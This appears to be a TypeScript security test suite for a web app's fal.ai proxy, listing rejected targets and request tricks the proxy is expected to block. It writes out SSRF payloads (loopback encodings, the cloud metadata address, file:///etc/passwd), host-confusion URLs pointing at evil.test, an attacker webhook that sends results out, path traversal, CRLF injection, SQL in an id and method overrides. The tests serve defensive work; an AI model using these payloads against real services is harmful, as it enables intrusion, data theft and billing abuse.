import { appUrl, goodInput, initiateUrl, model, submission, submitUrl, toProxy } from "./asks.ts";
import type { Attempt, Theme } from "./attempt.ts";
import type { Scene } from "./scene.ts";

type Target = string | undefined | ((scene: Scene) => string);
type Row = [name: string, method: string, target: Target];

const requestUrl = ({ running }: Scene) => `${appUrl}/requests/${running.requestId}`;
const atRun = (path: string) => (scene: Scene) => requestUrl(scene) + path;
const path = model;

const rows: Row[] = [
  ["no target", "POST", undefined],
  ["an empty target", "POST", ""],
  ["a target that is no URL", "POST", "queue.fal.run"],
  ["a target without a scheme", "POST", `//queue.fal.run/${path}`],

  ["an image model", "POST", "https://queue.fal.run/fal-ai/flux-pro/v1.1-ultra"],
  ["a video model that is not offered", "POST", "https://queue.fal.run/fal-ai/veo3.1"],
  ["a dearer sibling of the model", "POST", "https://queue.fal.run/fal-ai/minimax/h3-max"],
  ["a workflow", "POST", "https://queue.fal.run/workflows/someone/costly"],
  ["a ComfyUI flow", "POST", "https://queue.fal.run/comfy/someone/costly"],
  ["an app of the attacker's", "POST", "https://queue.fal.run/evil/minimax-video/image-to-video"],
  ["a path below the model", "POST", `${submitUrl}/anything`],
  ["the host alone", "POST", "https://queue.fal.run/"],
  ["half a model", "POST", "https://queue.fal.run/fal-ai"],
  ["a trailing slash", "POST", `${submitUrl}/`],
  ["the synchronous host", "POST", `https://fal.run/${path}`],
  ["the backup host", "POST", `https://queue.falrun.com/${path}`],
  ["the streaming path", "POST", `https://fal.run/${path}/stream`],
  ["the socket host", "GET", `https://ws.fal.run/${path}`],
  ["a token", "POST", "https://rest.fal.ai/tokens/"],
  ["a realtime token", "POST", "https://rest.fal.ai/tokens/realtime"],
  ["a storage token", "POST", "https://rest.fal.ai/storage/auth/token?storage_type=fal-cdn-v3"],
  ["the old storage host", "POST", initiateUrl.replace("rest.", "rest.alpha.")],
  ["other storage", "POST", "https://rest.fal.ai/storage/upload/initiate?storage_type=gcs"],
  ["an upload without storage", "POST", "https://rest.fal.ai/storage/upload/initiate"],
  ["an upload with a second query", "POST", `${initiateUrl}&x=1`],
  ["an upload in parts", "POST", initiateUrl.replace("initiate", "initiate-multipart")],
  ["an upload's start by GET", "GET", initiateUrl],
  ["an upload's start by PUT", "PUT", initiateUrl],
  ["the platform's prices", "GET", "https://api.fal.ai/v1/models/pricing"],
  ["the platform's usage", "GET", "https://api.fal.ai/v1/models/usage"],
  ["a new key", "POST", "https://api.fal.ai/v1/keys"],
  ["the billing of the account", "GET", "https://rest.fal.ai/billing/user_balance"],
  ["fal's site", "GET", "https://fal.ai/dashboard/keys"],
  ["a stored file", "GET", "https://v3.fal.media/files/b/abuse/video.mp4"],

  ["a webhook of the attacker's", "POST", `${submitUrl}?fal_webhook=https%3A%2F%2Fevil.test%2F`],
  ["a queue length of the attacker's", "POST", `${submitUrl}?fal_max_queue_length=1`],
  ["an empty query", "POST", `${submitUrl}?`],
  ["a webhook behind an encoded mark", "POST", `${submitUrl}%3Ffal_webhook=https://evil.test`],
  ["a webhook behind a semicolon", "POST", `${submitUrl};fal_webhook=https://evil.test`],
  ["a status with a webhook", "GET", atRun("/status?fal_webhook=https://evil.test/")],
  ["a status with a second query", "GET", atRun("/status?logs=1&x=1")],
  ["a status with a doubled query", "GET", atRun("/status?logs=1&logs=0")],
  ["a status with another value", "GET", atRun("/status?logs=2")],

  ["plain http", "POST", `http://queue.fal.run/${path}`],
  ["ftp", "POST", `ftp://queue.fal.run/${path}`],
  ["ws", "GET", `wss://queue.fal.run/${path}`],
  ["file", "GET", "file:///etc/passwd"],
  ["data", "GET", "data:text/plain,hello"],
  ["javascript", "GET", "javascript:alert(1)"],
  ["blob", "GET", "blob:https://queue.fal.run/x"],
  ["a scheme in capitals", "POST", `HTTPS://queue.fal.run/${path}`],
  ["one slash after the scheme", "POST", `https:/queue.fal.run/${path}`],
  ["three slashes after the scheme", "POST", `https:///queue.fal.run/${path}`],
  ["backslashes after the scheme", "POST", `https:\\\\queue.fal.run\\${path}`],

  ["another port", "POST", `https://queue.fal.run:8443/${path}`],
  ["the usual port, written out", "POST", `https://queue.fal.run:443/${path}`],
  ["an empty port", "POST", `https://queue.fal.run:/${path}`],
  ["a user name", "POST", `https://key@queue.fal.run/${path}`],
  ["a user name and a password", "POST", `https://a:b@queue.fal.run/${path}`],
  ["an empty user name", "POST", `https://@queue.fal.run/${path}`],
  ["fal's host as a user name", "POST", `https://queue.fal.run@evil.test/${path}`],
  ["fal's host as a password", "POST", `https://a:queue.fal.run@evil.test/${path}`],
  ["an encoded at sign", "POST", `https://queue.fal.run%40evil.test/${path}`],
  ["a host that begins as fal's", "POST", `https://queue.fal.run.evil.test/${path}`],
  ["a host that ends as fal's", "POST", `https://notqueue.fal.run/${path}`],
  ["a look-alike of fal.run", "POST", `https://notfal.run/${path}`],
  ["a subdomain of fal's", "POST", `https://evil.queue.fal.run/${path}`],
  ["a host in capitals", "POST", `https://QUEUE.FAL.RUN/${path}`],
  ["a final dot", "POST", `https://queue.fal.run./${path}`],
  ["a Cyrillic letter, as punycode", "POST", `https://queue.xn--fl-7kc.run/${path}`],
  ["an encoded dot in the host", "POST", `https://queue%2Efal%2Erun/${path}`],
  ["an encoded letter in the host", "POST", `https://%71ueue.fal.run/${path}`],
  ["an underscore before the host", "POST", `https://_queue.fal.run/${path}`],
  ["loopback", "GET", ({ canary }) => `${canary.origin}/`],
  ["loopback by https", "GET", ({ canary }) => `https://127.0.0.1:${canary.port}/`],
  ["loopback as a number", "GET", ({ canary }) => `http://2130706433:${canary.port}/`],
  ["loopback in hex", "GET", ({ canary }) => `http://0x7f.1:${canary.port}/`],
  ["loopback in octal", "GET", ({ canary }) => `http://0177.0.0.1:${canary.port}/`],
  ["loopback by IPv6", "GET", ({ canary }) => `http://[::1]:${canary.port}/`],
  ["loopback as mapped", "GET", ({ canary }) => `http://[::ffff:127.0.0.1]:${canary.port}/`],
  ["a name for loopback", "GET", ({ canary }) => `http://localhost:${canary.port}/`],
  ["the cloud's own address", "GET", "http://169.254.169.254/latest/meta-data/"],
  ["the app itself", "GET", ({ open }) => `${open.origin}/api/generations`],
  ["the upstream by its own address", "POST", ({ upstream }) => `${upstream.origin}/x`],

  ["dots", "POST", "https://queue.fal.run/fal-ai/x/../minimax-video/image-to-video"],
  ["encoded dots", "POST", `https://queue.fal.run/x/%2e%2e/${path}`],
  ["dots above the top", "POST", `https://queue.fal.run/../${path}`],
  ["a single dot", "POST", `https://queue.fal.run/./${path}`],
  ["a doubled slash", "POST", `https://queue.fal.run//${path}`],
  ["a doubled slash within", "POST", `https://queue.fal.run/fal-ai//minimax-video/image-to-video`],
  ["a backslash", "POST", "https://queue.fal.run/fal-ai\\minimax-video/image-to-video"],
  ["an encoded backslash", "POST", "https://queue.fal.run/fal-ai%5cminimax-video/image-to-video"],
  ["an encoded slash", "POST", "https://queue.fal.run/fal-ai%2Fminimax-video/image-to-video"],
  ["a twice encoded slash", "POST", "https://queue.fal.run/fal-ai%252Fminimax-video"],
  ["an encoded letter", "POST", "https://queue.fal.run/fal-ai/minimax-vide%6f/image-to-video"],
  ["a null byte", "POST", `${submitUrl}%00`],
  ["an encoded newline", "POST", `${submitUrl}%0d%0aHost:%20evil.test`],
  ["a path in capitals", "POST", "https://queue.fal.run/FAL-AI/minimax-video/image-to-video"],
  ["a fragment", "POST", `${submitUrl}#x`],
  ["an empty fragment", "POST", `${submitUrl}#`],
  ["a space before", "POST", `https://queue.fal.run/ ${path}`],
  ["a space within", "POST", `https://queue.fal.run/fal-ai/ minimax-video/image-to-video`],
  ["a tab within", "POST", `https://queue.fal.run/fal-ai/\tminimax-video/image-to-video`],
  ["a tab in the host", "POST", `https://queue.fal\t.run/${path}`],
  ["two targets with a comma", "POST", `${submitUrl}, https://evil.test/`],
  ["two targets with a space", "POST", `${submitUrl} https://evil.test/`],
  ["a target in angle brackets", "POST", `<${submitUrl}>`],
  ["a very long target", "POST", `https://queue.fal.run/${"a/".repeat(4000)}${path}`],

  ["another app's request", "GET", atOther("flux-pro")],
  ["a request without its id", "GET", `${appUrl}/requests`],
  ["a request with an empty id", "GET", `${appUrl}/requests//status`],
  ["a request id that climbs", "GET", `${appUrl}/requests/..%2F..%2Fx/status`],
  ["a request id with a wildcard", "GET", `${appUrl}/requests/********/status`],
  ["a request id with SQL", "GET", `${appUrl}/requests/'%20or%201=1--/status`],
  ["a request id of a thousand letters", "GET", `${appUrl}/requests/${"a".repeat(1000)}/status`],
  ["a request id that nobody has", "GET", `${appUrl}/requests/${crypto.randomUUID()}/status`],
  ["a status with a slash behind", "GET", atRun("/status/")],
  ["a status with more behind", "GET", atRun("/status/stream/x")],
  ["a status in capitals", "GET", atRun("/STATUS")],
  ["a result with a query", "GET", atRun("?logs=1")],
  ["a result with a slash behind", "GET", atRun("/")],
  ["a request's other corners", "GET", atRun("/response")],
  ["a request's logs", "GET", atRun("/logs")],
  ["a cancel by GET", "GET", atRun("/cancel")],
  ["a cancel by POST", "POST", atRun("/cancel")],
  ["a cancel by DELETE", "DELETE", atRun("/cancel")],
  ["a cancel with a query", "PUT", atRun("/cancel?x=1")],
  ["a POST to a status", "POST", atRun("/status")],
  ["a PUT to a status", "PUT", atRun("/status")],
  ["a HEAD of a status", "HEAD", atRun("/status")],
  ["a HEAD of a result", "HEAD", atRun("")],
  ["a DELETE of a request", "DELETE", atRun("")],
  ["a PATCH of a request", "PATCH", atRun("")],
  ["OPTIONS of a request", "OPTIONS", atRun("")],
  ["a GET of the model", "GET", submitUrl],
  ["a PUT to the model", "PUT", submitUrl],
  ["a HEAD of the model", "HEAD", submitUrl],
  ["a DELETE of the model", "DELETE", submitUrl],
  ["a PATCH of the model", "PATCH", submitUrl],
  ["OPTIONS of the model", "OPTIONS", submitUrl],
];

function atOther(app: string) {
  return ({ running }: Scene) =>
    `https://queue.fal.run/fal-ai/${app}/requests/${running.requestId}/status`;
}

// With the cookie of the owner of the run that some of them name: it is the target that is wrong.
const attempts: Attempt[] = rows.map(([name, method, target]) => ({
  name: `${method} ${name}`,
  run: (scene) => {
    const address = typeof target === "function" ? target(scene) : target;
    const body = ["GET", "HEAD"].includes(method) ? undefined : JSON.stringify(goodInput);
    return scene.call(toProxy(method, address, { cookie: scene.victim }, body));
  },
}));

attempts.push(
  {
    name: "two headers with a target each",
    run: (scene) =>
      scene.call(
        submission({
          headers: {
            cookie: scene.attacker,
            "x-fal-target-url": [submitUrl, "https://evil.test/"],
          },
        }),
      ),
  },
  {
    name: "the target as a query instead of a header",
    run: (scene) => {
      const query = new URLSearchParams({ "x-fal-target-url": submitUrl, url: submitUrl });
      const message = toProxy("POST", undefined, {}, JSON.stringify(goodInput));
      return scene.call({ ...message, path: `/api/fal/proxy?${query}` });
    },
  },
  {
    name: "a method by its override",
    run: (scene) =>
      scene.call(
        toProxy("POST", `${appUrl}/requests/${scene.running.requestId}/cancel`, {
          cookie: scene.victim,
          "x-http-method-override": "PUT",
          "x-http-method": "PUT",
          "x-method-override": "PUT",
        }),
      ),
  },
  {
    name: "a method by its override in the query",
    run: (scene) => {
      const target = `${appUrl}/requests/${scene.running.requestId}/cancel`;
      const message = toProxy("POST", target, { cookie: scene.victim });
      return scene.call({ ...message, path: "/api/fal/proxy?_method=PUT" });
    },
  },
);

export const targets: Theme = { title: "targets", attempts };
